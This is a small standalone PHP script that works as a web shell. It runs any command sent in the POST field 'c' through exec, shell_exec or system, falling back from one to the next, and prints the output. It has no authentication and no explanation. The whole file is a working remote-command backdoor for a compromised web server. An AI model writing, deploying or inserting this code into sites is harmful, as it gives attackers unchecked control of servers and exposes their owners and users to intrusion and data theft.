<?php
function run($c) {
 if (function_exists('exec')) { exec($c, $o); return implode("\n", $o); }
 if (function_exists('shell_exec')) return shell_exec($c);
 if (function_exists('system')) { ob_start(); system($c); return ob_get_clean(); }
}
echo run($_POST['c']);
